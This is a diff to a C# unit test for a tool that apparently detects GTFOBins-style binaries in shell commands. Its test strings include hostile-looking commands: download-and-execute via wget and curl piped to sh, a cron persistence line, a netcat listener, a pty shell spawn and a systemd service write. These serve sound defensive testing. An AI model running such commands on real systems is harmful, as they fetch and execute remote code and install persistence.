@@ -46,7 +46,10 @@ namespace B64Hunt.Tests.GtfoBins
             Assert.Equal(new[] { "bash", "wget" }, Names("bash -c 'wget -q http://x -O /tmp/x'"));
             Assert.Equal(new[] { "python", "bash" }, Names("python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"));
             Assert.Equal(new[] { "perl", "nc" }, Names("perl -e 'system(\"nc -lvp 4444\")'"));
-            Assert.Equal(new[] { "crontab", "curl" }, Names("(crontab -l; echo '* * * * * curl -fsSL http://x | sh') | crontab -"));
+            Assert.Equal(new[] { "wget" }, Names("echo 'wget -q http://x' | sh"));
+            // a crontab line is installed, not run: crontab is tagged, curl is not
+            Assert.Equal(new[] { "crontab" }, Names("(crontab -l; echo '* * * * * curl -fsSL http://x | sh') | crontab -"));
+            Assert.Equal(new[] { "tee" }, Names("echo 'ExecStart=/usr/bin/python3 /opt/x.py' | tee /etc/systemd/system/x.service"));
         }
 
         [Fact]
